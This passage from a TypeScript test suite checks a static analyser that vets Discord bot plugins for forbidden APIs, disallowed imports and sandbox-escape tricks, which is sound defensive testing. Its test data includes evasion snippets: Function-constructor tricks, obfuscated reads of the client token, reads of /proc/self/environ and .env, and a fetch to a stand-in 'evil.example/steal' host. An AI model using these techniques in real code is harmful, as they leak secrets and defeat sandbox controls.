    const file = modifiedFile("bot/plugins/demo/index.ts", before, after, [2]);
    const { findings, emit } = collector();
    analyzeCode(context([file]), file, emit);
    expect(findings).toEqual([]);
  });

  it("sees an alias declared on an unchanged line when the use is added", () => {
    const after = `const e = eval;\nexport const a = e("1");\n`;
    const file = modifiedFile("bot/plugins/demo/index.ts", `const e = eval;\n`, after, [2]);
    const { findings, emit } = collector();
    analyzeCode(context([file]), file, emit);
    expect(findings.map((f) => [f.rule, f.line])).toEqual([["api/eval", 2]]);
  });

  it("analyses a renamed file whole (a text file renamed to code was never analysed)", () => {
    const text = `export const a = 1;\neval("x");\n`;
    const file = {
      ...modifiedFile("bot/plugins/demo/run.ts", text, text, []),
      status: "renamed" as const,
      oldPath: "bot/plugins/demo/notes.txt",
    };
    const { findings, emit } = collector();
    analyzeCode(context([file]), file, emit);
    expect(findings.map((f) => [f.rule, f.line])).toEqual([["api/eval", 2]]);
  });

  it("reports file, line and column of the offending expression", () => {
    const file = addedFile("bot/plugins/demo/index.ts", `const x = 1;\n  globalThis.eval("x");\n`);
    const { findings, emit } = collector();
    analyzeCode(context([file]), file, emit);
    expect(findings).toEqual([
      {
        rule: "api/eval",
        severity: "error",
        file: "bot/plugins/demo/index.ts",
        line: 2,
        column: 3,
        message: expect.stringContaining("eval"),
      },
    ]);
  });

  it("analyses .js, .mjs, .cjs and .jsx files too", () => {
    for (const ext of ["js", "mjs", "cjs", "jsx", "mts", "cts"]) {
      expect(rulesFor(`require("child_process");`, `bot/plugins/demo/x.${ext}`), ext).toEqual(["api/forbidden-module"]);
    }
  });
});

describe("forbidden APIs: a changed binding changes the meaning of unchanged lines", () => {
  const analyse = (before: string, after: string, addedLines: number[]) => {
    const file = modifiedFile("bot/plugins/demo/index.ts", before, after, addedLines);
    const { findings, emit } = collector();
    analyzeCode(context([file], { policy: wideImports() }), file, emit);
    return findings.map((f) => [f.rule, f.line]);
  };

  it("an added alias makes an old call a finding", () => {
    const before = `let run = console.log;\nrun("x");\n`;
    const after = `let run = eval;\nrun("x");\n`;
    expect(analyse(before, after, [1])).toEqual([
      ["api/eval", 1],
      ["api/eval", 2],
    ]);
  });

  it("a changed constant key makes an old computed access resolve to eval", () => {
    const before = `const k = "setTimeout";\nglobalThis[k](() => {});\n`;
    const after = `const k = "eval";\nglobalThis[k]("x");\n`;
    expect(analyse(before, after, [1]).map(([r]) => r)).toContain("api/eval");
  });

  it("a changed import makes an old call a write", () => {
    const before = `import { readFile as op } from "node:fs/promises";\nawait op("x", "y");\n`;
    const after = `import { writeFile as op } from "node:fs/promises";\nawait op("x", "y");\n`;
    expect(analyse(before, after, [1])).toEqual([["api/fs-write", 2]]);
  });

  it("a harmless redeclaration elsewhere does not hide a dangerous binding", () => {
    const code = `let e = eval;\n{ let e = 1; }\ne("x");\n`;
    expect(rulesFor(code)).toEqual(["api/eval"]);
  });
});

describe("tests: skipped at run time and removed cases", () => {
  const testPath = "bot/plugins/demo/demo.test.ts";

  it("flags ctx.skip() and this.skip() in test files only", () => {
    expect(rulesFor(`it("x", (ctx) => { ctx.skip(); });`, testPath)).toEqual(["tests/skip-only"]);
    expect(rulesFor(`it("x", function () { this.skip(); });`, testPath)).toEqual(["tests/skip-only"]);
    expect(rulesFor(`queue.skip();`)).toEqual([]);
  });

  it("flags a test file that loses test cases", () => {
    const before = `it("a", () => {});\nit("b", () => {});\ntest.each([1])("c %i", () => {});\n`;
    const after = `it("a", () => {});\n`;
    const file = modifiedFile(testPath, before, after, []);
    const { findings, emit } = collector();
    analyzeCode(context([file]), file, emit);
    expect(findings).toEqual([
      expect.objectContaining({ rule: "tests/removed-cases", file: testPath, message: expect.stringContaining("3 → 1") }),
    ]);
  });
});

describe("forbidden APIs: the policy's own lists", () => {
  it("globals and members a maintainer adds are enforced", async () => {
    const { loadPolicy } = await import("../../../policy-engine/policy/load.ts");
    const loaded = loadPolicy([
      { path: "policies/ouro.yml", text: "forbiddenApis:\n  globals: [eval, Atomics]\n  members: [Buffer.allocUnsafe]\n" },
    ]);
    if (!loaded.ok) throw new Error(JSON.stringify(loaded.errors));
    const file = addedFile(
      "bot/plugins/demo/index.ts",
      `Atomics.wait(a, 0, 0);\nconst b = Buffer.allocUnsafe(10);\nconst c = Buffer.from("x");\n`,
    );
    const { findings, emit } = collector();
    analyzeCode(context([file], { policy: loaded.policy }), file, emit);
    expect(findings.map((f) => [f.rule, f.line])).toEqual([
      ["api/forbidden-global", 1],
      ["api/forbidden-member", 2],
    ]);
  });
});

describe("the import allowlist (default policy)", () => {
  const testPath = "bot/plugins/demo/demo.test.ts";
  const blocked: [name: string, code: string, rule: string, path?: string][] = [
    ["discord.js", `import { Client } from "discord.js";`, "api/import-package"],
    ["a discord.js helper package", `import { bold } from "@discordjs/formatters";`, "api/import-package"],
    [
      "a value import of discord.js with only type specifiers (Node keeps the import)",
      `import { type Client } from "discord.js";`,
      "api/import-package",
    ],
    ["a package subpath not listed", `import { z } from "zod/v4";`, "api/import-package"],
    ["vitest in plugin code", `import { vi } from "vitest";`, "api/import-package"],
    ["vitest/node in a test file", `import { startVitest } from "vitest/node";`, "api/import-package", testPath],
    ["vitest internals in a test file", `import { x } from "vitest/dist/chunks/x.js";`, "api/import-package", testPath],
    ["the bot core", `import { definePlugin } from "../../core/plugin.ts";`, "api/import-outside"],
    ["the bot core by a longer way", `import { x } from "../../plugins/../core/settings.ts";`, "api/import-outside"],
    ["the API's test helpers from plugin code", `import { runCommand } from "../../plugin-api/testing.ts";`, "api/import-outside"],
    ["the plugin API with a query", `import { definePlugin } from "../../plugin-api/index.ts?x";`, "api/import-unanalysed"],
    ["a percent-encoded climb", `import x from "./%2e%2e/%2e%2e/core/plugin.ts";`, "api/import-unanalysed"],
    ["node:fs", `import { readFileSync } from "node:fs";`, "api/import-builtin"],
    ["bare fs", `import fs from "fs";`, "api/import-builtin"],
    ["node:path", `import { join } from "node:path";`, "api/import-builtin"],
    [
      "node:process default-as",
      `import { default as p } from "node:process";\nexport const t = p.env.DISCORD_TOKEN;`,
      "api/import-builtin",
    ],
    [
      "node:process default-as reads the env",
      `import { default as p } from "node:process";\nexport const t = p.env.DISCORD_TOKEN;`,
      "api/env",
    ],
    ["a built-in sub-module not listed", `import { types } from "node:util/types";`, "api/import-builtin"],
    ["node:os", `import os from "node:os";`, "api/import-builtin"],
    ["require of fs", `const fs = require("fs");`, "api/import-builtin"],
    ["import() of discord.js", `const d = await import("discord.js");`, "api/import-package"],
    ["process.getBuiltinModule of fs", `const fs = process.getBuiltinModule("node:fs");`, "api/import-builtin"],
    ["re-export of discord.js", `export { Client } from "discord.js";`, "api/import-package"],
    ["export * of the core", `export * from "../../core/plugin.ts";`, "api/import-outside"],
    [
      "vi.importActual of child_process",
      `import { vi } from "vitest";\nconst cp = await vi.importActual("node:child_process");`,
      "api/forbidden-module",
      testPath,
    ],
    [
      "vi.importActual of fs",
      `import { vi } from "vitest";\nconst fs = await vi.importActual<typeof import("node:fs")>("node:fs");`,
      "api/import-builtin",
      testPath,
    ],
    ["vi.mock of discord.js", `import { vi } from "vitest";\nvi.mock("discord.js");`, "api/import-package", testPath],
    ["vi.importActual with a computed name", `import { vi } from "vitest";\nawait vi.importActual(name);`, "api/dynamic-import", testPath],
  ];
  it.each(blocked)("%s is blocked", (_name, code, rule, path) => {
    expect(rulesFor(code, path)).toContain(rule);
  });

  it("names the file, line, specifier and what is allowed", () => {
    const file = addedFile("bot/plugins/demo/index.ts", `export const x = 1;\nimport { Client } from "discord.js";\n`);
    const { findings, emit } = collector();
    analyzeCode(context([file]), file, emit);
    expect(findings).toEqual([
      {
        rule: "api/import-package",
        severity: "error",
        file: "bot/plugins/demo/index.ts",
        line: 2,
        column: 1,
        message: expect.stringMatching(/"discord\.js".*allowed: zod; in test files also vitest/),
      },
    ]);
    expect(rulesFor(`import fs from "node:fs";`).length).toBe(1);
  });

  const allowed: [name: string, code: string, path?: string][] = [
    ["the plugin API", `import { definePlugin, type CommandCall } from "../../plugin-api/index.ts";`],
    [
      "the plugin API from the registry",
      `import type { Plugin } from "../plugin-api/index.ts";\nimport { definePlugin } from "../plugin-api/index.ts";`,
      "bot/plugins/index.ts",
    ],
    ["the plugin API from a nested file", `import { definePlugin } from "../../../plugin-api/index.ts";`, "bot/plugins/demo/lib/x.ts"],
    [
      "files of the plugin and another plugin, JSON data",
      `import { helper } from "./helper.ts";\nimport { PONG } from "../ping/index.ts";\nimport data from "./data.json" with { type: "json" };\nimport settings from "../settings.json" with { type: "json" };`,
    ],
    ["zod", `import { z } from "zod";`],
    [
      "pure built-ins either way",
      `import { randomInt } from "node:crypto";\nimport { createHash } from "crypto";\nimport { Buffer } from "node:buffer";\nimport { inspect } from "node:util";\nimport assert from "node:assert";\nimport { URLSearchParams } from "node:url";\nimport qs from "querystring";\nimport { StringDecoder } from "node:string_decoder";`,
    ],
    [
      "types from anywhere (erased before it runs)",
      `import type { Client } from "discord.js";\nimport type { BotSettings } from "../../core/settings.ts";\nexport type { Guild } from "discord.js";`,
    ],
    [
      "vitest and the test helpers in a test file",
      `import { describe, expect, it, vi } from "vitest";\nimport { runCommand } from "../../plugin-api/testing.ts";\nimport plugin from "./index.ts";\nvi.mock("./helper.ts");\nconst real = await vi.importActual<typeof import("./helper.ts")>("./helper.ts");`,
      "bot/plugins/demo/demo.test.ts",
    ],
    ["literal dynamic import of an allowed module", `const { z } = await import("zod");\nconst h = await import("./helper.ts");`],
  ];
  it.each(allowed)("%s is allowed", (_name, code, path) => {
    expect(rulesFor(code, path)).toEqual([]);
  });

  it("follows the policy's lists", () => {
    const p = defaultPolicy();
    const policy: Policy = {
      ...p,
      imports: { ...p.imports, packages: ["zod", "date-fns", "discord-api-types/v10"], builtins: ["crypto", "path"] },
    };
    expect(
      rulesFor(
        `import { format } from "date-fns";\nimport { Routes } from "discord-api-types/v10";\nimport { join } from "node:path";`,
        undefined,
        policy,
      ),
    ).toEqual([]);
    expect(rulesFor(`import { Routes } from "discord-api-types";`, undefined, policy)).toEqual(["api/import-package"]);
    expect(rulesFor(`import { inspect } from "node:util";`, undefined, policy)).toEqual(["api/import-builtin"]);
  });
});

describe("defense in depth: the classes of issue 10", () => {
  const hostile: [name: string, code: string, rule: string][] = [
    // cross-file aliasing: a file hands process / globalThis / constructors to another
    ["exports process under another name", `export const p = process;`, "api/exported-alias"],
    ["exports globalThis through an export list", `const g = globalThis;\nexport { g as helpers };`, "api/exported-alias"],
    ["exports an alias assigned later", `export let p: unknown;\np = process;`, "api/exported-alias"],
    ["exports process.env", `export const env = process.env;`, "api/exported-alias"],
    ["exports a constructor", `export const C = [].map.constructor;`, "api/exported-alias"],
    ["exports a constructor as default", `export default ({}).constructor;`, "api/exported-alias"],
    ["exports Function.prototype", `export const FP = Object.getPrototypeOf(async () => {});`, "api/exported-alias"],
    ["exports fetch", `export const f = fetch;`, "api/exported-alias"],
    ["exports require", `export const r = require;`, "api/exported-alias"],
    ["exports the global process by name", `export { process };`, "api/exported-alias"],
    // X.constructor with code that is not a literal
    ["new Object.constructor(src)", `export const run = (src: string) => new Object.constructor(src)();`, "api/function-constructor"],
    [
      "new fn.constructor(src)",
      `const f = () => 1;\nexport const run = (src: string) => new f.constructor(src)();`,
      "api/function-constructor",
    ],
    ["new [].map.constructor(src)", `export const run = (src: string) => new [].map.constructor(src)();`, "api/function-constructor"],
    [
      "new x.constructor on an imported value",
      `import { helper } from "./helper.ts";\nexport const run = (src: string) => new helper.constructor(src)();`,
      "api/function-constructor",
    ],
    [
      "an alias of x.constructor, newed",
      `const C = ({}).constructor.constructor;\nexport const run = (src: string) => new C(src)();`,
      "api/function-constructor",
    ],
    [
      "an alias of an unknown .constructor, newed",
      `import { helper } from "./helper.ts";\nconst C = helper.constructor;\nexport const run = (src: string) => new C(src)();`,
      "api/function-constructor",
    ],
    [
      "Reflect.construct(Object.constructor, …)",
      `export const run = (src: string) => Reflect.construct(Object.constructor, [src])();`,
      "api/function-constructor",
    ],
    [
      "Reflect.construct of an unknown .constructor",
      `import { helper } from "./helper.ts";\nexport const run = (src: string) => Reflect.construct(helper.constructor, [src])();`,
      "api/function-constructor",
    ],
    ["x.constructor.call", `export const run = (src: string) => Math.max.constructor.call(null, src)();`, "api/function-constructor"],
    [
      "new this.constructor in a static method",
      `export class A { static make(src: string) { return new this.constructor(src); } }`,
      "api/function-constructor",
    ],
    // the CommonJS wrapper's arguments
    ["arguments[1] at the top level", `const req = arguments[1];\nreq("child_process");`, "api/forbidden-global"],
    ["arguments in an arrow at the top level", `export const r = () => arguments[1]("fs");`, "api/forbidden-global"],
    // bare global assignment
    ["JSON = …", `JSON = { parse: (s: string) => s, stringify: String } as any;`, "api/global-mutation"],
    ["Object = …", `(Object as any) = function () {};\nObject = Object;`, "api/global-mutation"],
    ["globalThis.JSON = …", `globalThis.JSON = {} as any;`, "api/global-mutation"],
    ["fetch = … (destructuring)", `[fetch] = [async () => new Response("")];`, "api/global-mutation"],
    ["an undeclared name assigned (a new global)", `leaked = "x";`, "api/global-mutation"],
    ["JSON reassigned through ++ / for-of", `for (JSON of [1]) {}`, "api/global-mutation"],
    // the Discord client, in any form a plugin could still reach it
    ["client[computed key]", `export const f = (client: any) => client[["to", "ken"].join("")];`, "api/client-token"],
    [
      "client[String.fromCharCode(…)]",
      `export const f = (i: any) => i.client[String.fromCharCode(116, 111, 107, 101, 110)];`,
      "api/client-token",
    ],
    [
      "client[key imported from another file]",
      `import { KEY } from "./keys.ts";\nexport const f = (i: any) => i.client[KEY];`,
      "api/client-token",
    ],
    [
      "Reflect.ownKeys over the client",
      `export const f = (i: any) => Reflect.ownKeys(i.client).map((k) => i.client[k]);`,
      "api/client-token",
    ],
    [
      "for-in over the client",
      `export const f = (client: any) => { const out = []; for (const k in client) out.push(client[k]); return out; };`,
      "api/client-token",
    ],
    [
      "new Client().token",
      `import { Client } from "discord.js";\nexport const t = () => new Client({ intents: [] }).token;`,
      "api/client-token",
    ],
    [
      "a new Client under a name",
      `import * as Discord from "discord.js";\nconst c = new Discord.Client({ intents: [] });\nexport const t = () => c.token;`,
      "api/client-token",
    ],
    ["Object.entries of the client", `export const f = (i: any) => Object.entries(i.client);`, "api/client-token"],
    // process handles, a frozen thread, an endless loop
    ["process._getActiveHandles", `export const h = () => (process as any)._getActiveHandles();`, "api/forbidden-member"],
    ["Atomics.wait", `export const sleep = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`, "api/forbidden-member"],
    ["for (;;) {}", `export const hang = () => { for (;;) {} };`, "api/busy-loop"],
    [
      "while (true) with only continue",
      `export const hang = () => { let i = 0; while (true) { i++; if (i > 3) continue; } };`,
      "api/busy-loop",
    ],
    ["do … while (1)", `export const hang = () => { do { Math.random(); } while (1); };`, "api/busy-loop"],
    ["a break of an inner loop only", `export const hang = () => { while (!0) { for (const x of [1]) { break; } } };`, "api/busy-loop"],
    // fs: helpers shadowed to fake "next to the module"; new ReadStream; globSync
    [
      "a local URL faking the exemption",
      `import { readFileSync } from "node:fs";\nclass URL { constructor(_a: string, _b: string) { return "/proc/self/environ" as any; } }\nexport const e = readFileSync(new URL("./data.json", import.meta.url));`,
      "api/fs-read",
    ],
    [
      "a local join faking the exemption",
      `import { readFileSync } from "node:fs";\nconst join = (..._a: string[]) => "/proc/self/environ";\nexport const e = readFileSync(join(import.meta.dirname, "data.json"));`,
      "api/fs-read",
    ],
    [
      "a local __dirname faking the exemption",
      `import { readFileSync } from "node:fs";\nimport { join } from "node:path";\nconst __dirname = "/proc/self";\nexport const e = readFileSync(join(__dirname, "environ"));`,
      "api/fs-read",
    ],
    ["new fs.ReadStream", `import fs from "node:fs";\nexport const s = new fs.ReadStream("/proc/self/environ");`, "api/fs-read"],
    ["fs.globSync", `import fs from "node:fs";\nexport const all = fs.globSync("/**/.env");`, "api/fs-read"],
    // files that hold secrets, named as data (attachments, paths handed to something that reads them)
    [
      "/proc/self/environ as an attachment",
      `export const run = (call: any) => call.reply({ files: ["/proc/self/environ"] });`,
      "api/secret-path",
    ],
    ["a /proc path built in a template", "export const p = (pid: number) => `/proc/${pid}/environ`;", "api/secret-path"],
    [".env", `export const p = "../../../.env";`, "api/secret-path"],
    // regular expressions that backtrack exponentially
    ["a nested quantifier in a regex literal", `export const ok = (s: string) => /^(\\w+\\s?)*$/.test(s);`, "api/redos"],
    ["a nested quantifier in new RegExp", `export const re = new RegExp("^(a+)+$");`, "api/redos"],
    ["a nested quantifier with {n,}", `export const re = /((ab)*c){2,}/;`, "api/redos"],
    // the plugin API's fetch to a host that is not allowed
    ["call.fetch to another host", `export const run = async (call: any) => call.fetch("https://evil.example/steal?t=1");`, "api/network"],
  ];
  it.each(hostile)("%s", (_name, code, rule) => {
    expect(rulesFor(code)).toContain(rule);
  });

  const benign: [name: string, code: string][] = [
    [
      "exports of functions, values, API names and allowed env values",
      `import { definePlugin } from "../../plugin-api/index.ts";\nimport { randomInt } from "node:crypto";\nimport { z } from "zod";\nexport const roll = () => randomInt(1, 7);\nexport const schema = z.object({ n: z.number() });\nexport { randomInt, z };\nexport const MODE = process.env.NODE_ENV ?? "development";\nexport const PONG = "Pong!";\nexport default definePlugin({ name: "demo", description: "d" });`,
    ],
    [
      "constructors used the ordinary ways",
      `export class A { n = ""; clone() { return new (this.constructor as any)(this.n); } copy() { return new (this as any).constructor(this.n); } }\nexport const same = (v: object) => v.constructor === Object;\nexport const kind = (v: object) => v.constructor.name;\nexport const fresh = (v: any) => new v.constructor();`,
    ],
    [
      "arguments inside functions",
      `export function sum() { return Array.from(arguments).reduce((a: number, b: number) => a + b, 0); }\nexport const o = { f() { return () => arguments.length; } };`,
    ],
    [
      "assignments to locals, parameters and hoisted functions",
      `let count = 0;\ncount += 1;\ncount++;\nlet a: number, b: number;\n[a, b] = [1, 2];\n({ a, b } = { a: 3, b: 4 });\nexport function f(x: number) { x = x * 2; g = g; return x; }\nfunction g() {}\nfor (count of [1, 2]) {}\ntry { JSON.parse("x"); } catch (e) { e = null; }`,
    ],
    [
      "loops with a way out",
      `export async function poll(next: () => Promise<boolean>) { for (;;) { if (await next()) return; } }\nexport function first(xs: number[]) { let i = 0; while (true) { if (xs[i] > 0) break; i++; } return i; }\nexport function* ids() { let i = 0; while (true) yield i++; }\nexport function check(n: number) { do { n--; } while (n > 0); outer: while (1) { for (;;) { break outer; } } }`,
    ],
    [
      "call.fetch to an allowed host, or a computed URL left to the core",
      `export const run = async (call: any, id: string) => { await call.fetch("https://discord.com/api/v10/users/@me"); await call.fetch(\`https://cdn.discordapp.com/a/\${id}.png\`); await call.fetch(call.options.url as string); await call.store.get("k"); };`,
    ],
    [
      "regexes without nested repetition, strings that only look like paths",
      `export const a = /^!roll (\\d+)$/;\nexport const b = /^(hi|hello)\\b/i;\nexport const c = /(a|b)*[(+*)]\\(x+\\)*/;\nexport const d = new RegExp("^(\\\\d{1,3})(,\\\\d{3})?$");\nexport const e = "process.env";\nexport const f = "/api/v10/users";\nexport const g = "my.environment";`,
    ],
    [
      "client-like names that are not the client",
      `const clients = new Map<string, string>();\nexport const f = (k: string) => clients.get(k);\nconst o: Record<string, number> = {};\nexport const g = (k: string) => o[k];\nfor (const k in o) console.log(k);\nexport const keys = Object.keys(o);`,
    ],
  ];
  it.each(benign)("benign: %s", (name, code) => {
    expect(rulesFor(code), name).toEqual([]);
  });
});
